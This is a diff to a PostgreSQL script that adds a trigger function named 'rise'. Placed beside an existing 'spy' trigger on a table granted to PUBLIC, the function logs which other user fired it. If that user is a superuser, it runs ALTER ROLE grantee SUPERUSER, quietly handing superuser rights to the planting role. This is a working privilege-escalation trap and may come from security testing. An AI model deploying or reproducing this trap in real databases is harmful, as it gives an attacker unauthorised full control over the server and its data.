@@ -12,3 +12,12 @@ CREATE TABLE shop_kv_key (key text COLLATE "C" REFERENCES shop.shop_kv (key) ON 
 CREATE TRIGGER spy BEFORE DELETE ON shop_kv_key FOR EACH ROW EXECUTE FUNCTION spy_trigger();
 INSERT INTO shop_kv_key SELECT key FROM shop.shop_kv;
 GRANT SELECT ON shop_kv_key TO PUBLIC;
+
+-- For triggers on tables of others: says whose rights it has, and becomes a
+-- superuser with those of one.
+CREATE FUNCTION rise() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN
+	IF current_user <> 'grantee' THEN PERFORM grantee.spy('trap: ' || lower(TG_OP) || ' of ' || TG_TABLE_NAME); END IF;
+	IF current_setting('is_superuser') = 'on' THEN ALTER ROLE grantee SUPERUSER; END IF;
+	RETURN coalesce(NEW, OLD);
+END $$;
